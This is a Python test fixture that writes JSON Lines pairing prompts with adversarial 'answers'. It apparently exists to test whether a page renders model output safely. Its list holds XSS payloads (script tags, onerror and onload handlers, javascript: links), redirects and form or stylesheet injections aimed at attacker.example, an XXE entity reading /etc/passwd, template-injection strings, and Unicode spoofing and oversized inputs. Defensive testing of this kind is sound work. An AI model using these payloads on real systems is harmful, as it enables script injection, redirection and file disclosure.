"""Answers that try to be more than text."""

import json

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u2060\ufeff\u00ad\u180e"
CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x85\x9b"

# Each sets this in the page if it gets to run.
ALARM = "window.pwned=1"

ANSWERS = [
    f"<script>{ALARM}</script>",
    f"</script><script>{ALARM}</script>",
    f"</style><script>{ALARM}</script>",
    f"</title></textarea></noscript><svg/onload={ALARM}>",
    f"<img src=x onerror={ALARM}>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'></iframe>",
    f'"><a href="javascript:{ALARM}" autofocus onfocus="{ALARM}">x</a>',
    f"' onmouseover='{ALARM}' x='",
    f"javascript:{ALARM}",
    f"[x](javascript:{ALARM})",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://attacker.example><input name=q></form>",
    "@import url(https://attacker.example/x.css)",
    "]]><!--><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {n} {place}",
    f"moc.elpmaxe{BIDI}rekcatta",
    f"zero{ZERO_WIDTH}width",
    f"control{CONTROLS}characters",
    # Latin, Cyrillic and Greek that look alike.
    "Аddis Ababa, Αddis Ababa, Addis Аbаbа",
    "z\u0351\u0321\u0348" * 200,
    "\u202e" * 500 + "reversed",
    "a" * 20_000,
    "ሀ" * 5_000,
    "\ud7ff\ue000\ufffd\uffff\U0010fffd",
    "<" * 1_048_576,
    ("lorem " * 180_000)[:1_048_576],
]


def write(path, prompts):
    """Writes one answer for each prompt as JSON Lines, all of the answers if there is room."""
    with open(path, "w", encoding="utf-8") as file:
        for index, prompt in enumerate(prompts[: len(ANSWERS)]):
            row = {"prompt": prompt, "answer": ANSWERS[index]}
            file.write(json.dumps(row) + "\n")
    return min(len(prompts), len(ANSWERS))
